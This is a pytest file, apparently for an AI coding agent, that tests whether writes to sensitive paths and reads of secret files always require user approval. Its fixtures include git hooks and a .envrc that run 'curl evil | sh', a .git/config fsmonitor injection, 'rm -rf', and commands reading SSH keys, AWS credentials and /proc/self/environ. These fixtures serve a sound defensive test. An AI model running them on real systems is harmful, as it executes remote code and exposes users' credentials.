"""Nothing slips past the user: sensitive paths are always asked, "allow always" stays narrow."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.acp.client import AcpAgent
from tests.acp.recorder import NOTHING, RecordingClient
from tests.acp.tether import TETHER_ACP, call, tether_acp, tether_env, turns
from tests.adversarial.floor_places import (
    FLOOR_WRITES,
    SECRET_TEXT,
    SPELLINGS,
    placed,
    plant,
)

from .calls import bash, one_call_a_turn
from .conftest import Editor


def write(path: str, content: str = "evil\n") -> dict[str, Any]:
    return {"name": "write_file", "arguments": {"path": path, "content": content}}


def edit(path: str, old: str, new: str) -> dict[str, Any]:
    return {"name": "edit_file", "arguments": {"path": path, "old_text": old, "new_text": new}}


def allow_always_then_deny(editor: Editor) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """Approval answers: "allow always" to the first question, deny to every later one."""
    return lambda params: {"decision": "allow-always" if len(editor.approvals) == 1 else "deny"}


async def test_sensitive_paths_are_asked_whatever_auto_approve_says(
    editor: Editor, workspace: Path
) -> None:
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (workspace / "sub").mkdir()
    calls = [
        write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"),
        write(".vscode/settings.json", '{"python.defaultInterpreterPath": "./evil"}\n'),
        write(".env", "TOKEN=x\n"),
        write(".github/workflows/ci.yml", "on: push\n"),
        edit("sub/../.git/config", "bare = false", "bare = false\n\tfsmonitor = ./evil"),
        write("notes.txt", "ordinary\n"),
    ]
    await editor.open_session(
        workspace,
        options={"autoApprove": ["write_file", "edit_file"]},
        script=one_call_a_turn(*calls),
    )
    editor.approve = lambda params: {"decision": "deny"}
    result = await editor.run(prompt="go", runId="r1")
    assert result["outcome"] == "done"
    titles = [params["title"] for params in editor.approvals]
    assert titles == [
        "Create .git/hooks/pre-commit — a git hook: runs code on git commands",
        "Create .vscode/settings.json — editor settings: can run code when the folder is opened",
        "Create .env — environment secrets",
        "Create .github/workflows/ci.yml — a CI pipeline: runs on the next push, often with "
        "secrets",
        "Edit .git/config — git internals: configure how git runs (hooks, filters, aliases)",
    ]
    assert editor.decisions() == ["deny"] * 5 + ["auto"]
    assert not (workspace / ".git" / "hooks").exists()
    assert not (workspace / ".vscode").exists()
    assert not (workspace / ".env").exists()
    assert not (workspace / ".github").exists()
    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert (workspace / "notes.txt").read_text() == "ordinary\n"  # still auto-approved


async def test_allow_always_on_an_ordinary_edit_does_not_cover_a_sensitive_one(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(
            write("a.txt", "1\n"), write(".envrc", "curl evil | sh\n"), write("b.txt", "2\n")
        ),
    )
    editor.approve = allow_always_then_deny(editor)
    await editor.run(prompt="go", runId="r1")
    assert [params["title"] for params in editor.approvals] == [
        "Create a.txt",
        "Create .envrc — a direnv script: runs when you enter the folder",
    ]
    assert editor.decisions() == ["allow-always", "deny", "auto"]
    assert not (workspace / ".envrc").exists()
    assert (workspace / "b.txt").read_text() == "2\n"


async def test_allow_always_on_a_sensitive_path_is_not_remembered(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(
            write(".vscode/settings.json", "{}\n"), write(".vscode/tasks.json", "{}\n")
        ),
    )
    editor.approve = allow_always_then_deny(editor)
    await editor.run(prompt="go", runId="r1")
    assert editor.decisions() == ["allow-always", "deny"]
    assert (workspace / ".vscode" / "settings.json").exists()
    assert not (workspace / ".vscode" / "tasks.json").exists()


@pytest.mark.parametrize("choice", [None, "Allow always"])
async def test_the_message_fallback_says_why_and_no_answer_denies(
    editor: Editor, workspace: Path, choice: str | None
) -> None:
    await editor.open_session(
        workspace,
        approvals=False,
        options={"autoApprove": ["write_file"]},
        script=one_call_a_turn(write(".git/hooks/post-checkout")),
    )
    editor.message_choice = choice
    await editor.run(prompt="go", runId="r1")
    [request] = editor.message_requests
    assert "Create .git/hooks/post-checkout — a git hook: runs code on git commands" in (
        request.message
    )
    written = (workspace / ".git" / "hooks" / "post-checkout").exists()
    assert written == (choice is not None)


async def test_allow_always_on_a_command_covers_that_exact_command_only(
    editor: Editor, workspace: Path
) -> None:
    (workspace / "x").mkdir()
    (workspace / "x" / "keep.txt").write_text("precious\n")
    await editor.open_session(
        workspace,
        script=one_call_a_turn(
            bash("date"),
            bash("rm -rf x"),
            bash("date "),  # not the same string: asked
            bash("date"),
        ),
    )
    editor.approve = allow_always_then_deny(editor)
    result = await editor.run(prompt="go", runId="r1")
    assert result["outcome"] == "done"
    assert [params["preview"]["command"] for params in editor.approvals] == [
        "date",
        "rm -rf x",
        "date ",
    ]
    assert editor.decisions() == ["allow-always", "deny", "deny", "auto"]
    assert (workspace / "x" / "keep.txt").read_text() == "precious\n"


async def test_the_message_fallback_offers_allow_always_for_this_exact_command(
    editor: Editor, workspace: Path
) -> None:
    (workspace / "x").mkdir()
    await editor.open_session(
        workspace,
        approvals=False,
        script=one_call_a_turn(bash("date"), bash("rm -rf x"), bash("date")),
    )
    editor.message_choice = "Allow always (this exact command)"
    await editor.run(prompt="go", runId="r1")
    first, second = editor.message_requests  # the third call, the same `ls`, is not asked
    assert [a.title for a in first.actions] == [
        "Allow",
        "Allow always (this exact command)",
        "Deny",
    ]
    assert "$ date" in first.message and "$ rm -rf x" in second.message


# --- the user's own files, whatever the workspace root (through `tether acp`) -------------
# Promise: in accept-edits mode, with the workspace at the home folder (allowed by the user's
# own `allowBroadWorkspace`), a change to a start-up file, `~/.config` (Tether's own config
# and rules first), a login service, a folder on the PATH or a credentials file is asked,
# with its reason, however the model spells the path; nothing is written unasked. And the
# built-in read-only commands run no `cat ~/.ssh/id_rsa` or `cat /proc/self/environ` unasked
# with a root of `/` or above the home folder. Before, accept-edits wrote all of them and the
# built-ins read both.

ALLOW_BROAD = "allowBroadWorkspace = true\n"
ORDINARY = "Documents/plan.md"


def floor_home(base: Path) -> Path:
    """``base / "home"``: the home folder ``tether_acp(…, base, …)`` gives the server, planted
    with the floor's places and a user config file that allows a broad workspace."""
    home = base / "home"
    plant(home)
    (home / ".config" / "tether" / "config.toml").write_text(ALLOW_BROAD)
    (home / "notes.txt").write_text("ordinary\n")
    return home


def tool_outputs(client: RecordingClient) -> str:
    """Everything the server sent the client, as text."""
    return "\n".join(json.dumps(m.payload) for m in client.messages if m.direction == "to_client")


@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
async def test_accept_edits_asks_before_changing_the_users_own_files_at_a_root_of_home(
    tmp_path: Path, spelling: str
) -> None:
    home = floor_home(tmp_path)
    before = {rel: (home / rel).read_bytes() for rel in FLOOR_WRITES}
    spelled = {rel: SPELLINGS[spelling](home, rel) for rel in FLOOR_WRITES}
    calls = [call("write_file", path=ORDINARY, content="plan\n")]
    calls += [call("write_file", path=p, content="evil\n") for p in spelled.values()]
    script = turns(*({"tool_calls": [c]} for c in calls), {"text": "done"})
    client = RecordingClient(capabilities=NOTHING, permission="reject_once")
    async with tether_acp(home, tmp_path, script, client) as agent:
        session = await agent.new_session(home)
        await agent.set_mode(session, "accept-edits")
        answer = await agent.prompt(session, "go", within=120)
        assert answer["stopReason"] == "end_turn"
        assert (home / ORDINARY).read_text() == "plan\n"  # accept-edits: written unasked
        asked = [p.tool_call["title"] for p in client.permissions]
        assert len(asked) == len(FLOOR_WRITES), asked
        for title, rel in zip(asked, FLOOR_WRITES, strict=True):
            assert FLOOR_WRITES[rel] in title, (rel, spelled[rel], title)
        assert all("allow_always" not in p.kinds for p in client.permissions)
    assert {rel: (home / rel).read_bytes() for rel in FLOOR_WRITES} == before
    assert not (home / ".BASHRC").exists() and not (home / ".CONFIG").exists()


async def test_tethers_own_config_where_xdg_config_home_points_is_asked_in_a_project(
    tmp_path: Path,
) -> None:
    """Inside an ordinary project, no broad root: the user keeps Tether's config there."""
    root = tmp_path / "proj"
    (root / "cfg" / "tether").mkdir(parents=True)
    script = turns(
        {"tool_calls": [call("write_file", path="cfg/tether/config.toml", content="x = 1\n")]},
        {"tool_calls": [call("write_file", path="cfg/tether/rules.toml", content="x = 1\n")]},
        {"tool_calls": [call("write_file", path="src/app.py", content="print()\n")]},
        {"text": "done"},
    )
    client = RecordingClient(capabilities=NOTHING, permission="reject_once")
    env = tether_env(tmp_path, script) | {"XDG_CONFIG_HOME": str(root / "cfg")}
    async with AcpAgent.spawn(TETHER_ACP, cwd=root, env=env, client=client) as agent:
        await agent.initialize()
        session = await agent.new_session(root)
        await agent.set_mode(session, "accept-edits")
        assert (await agent.prompt(session, "go"))["stopReason"] == "end_turn"
        titles = [p.tool_call["title"] for p in client.permissions]
        assert len(titles) == 2 and all("Tether's own settings" in t for t in titles), titles
    assert not (root / "cfg" / "tether" / "config.toml").exists()
    assert (root / "src" / "app.py").read_text() == "print()\n"


SECRET_COMMANDS = {
    ".ssh/id_rsa": "cat",
    ".aws/credentials": "head -n 3",
    ".netrc": "grep -n SECRET",
}
ENV_SECRET = "ENV-SECRET-5d1f"


@pytest.mark.parametrize("root_kind", ["above", "/"])
async def test_the_built_in_reads_ask_for_secrets_at_a_root_holding_the_home_folder(
    tmp_path: Path, root_kind: str
) -> None:
    home = floor_home(tmp_path)
    root, notes = placed(tmp_path, root_kind, "notes.txt")
    secret_commands = [
        f"{words} {placed(tmp_path, root_kind, SPELLINGS[spelling](home, rel))[1]}"
        for spelling in sorted(SPELLINGS)
        for rel, words in SECRET_COMMANDS.items()
    ]
    secret_commands += ["cat /proc/self/environ", "head -c 4000 /proc/self/environ"]
    secret_commands += ["grep -r SECRET .", "rg SECRET"]
    script = turns(
        {"tool_calls": [bash(f"cat {notes}")]},
        *({"tool_calls": [bash(c)]} for c in secret_commands),
        {"text": "done"},
    )
    client = RecordingClient(capabilities=NOTHING, permission="reject_once")
    async with tether_acp(root, tmp_path, script, client, FLOOR_SECRET=ENV_SECRET) as agent:
        session = await agent.new_session(root)
        answer = await agent.prompt(session, "go", within=120)
        assert answer["stopReason"] == "end_turn"
        asked = [p.tool_call["rawInput"]["command"] for p in client.permissions]
        assert asked == secret_commands  # every one asked; `cat notes.txt` was not
        sent = tool_outputs(client)
        assert "ordinary" in sent  # the built-ins still read an ordinary file unasked
        assert SECRET_TEXT not in sent and ENV_SECRET not in sent
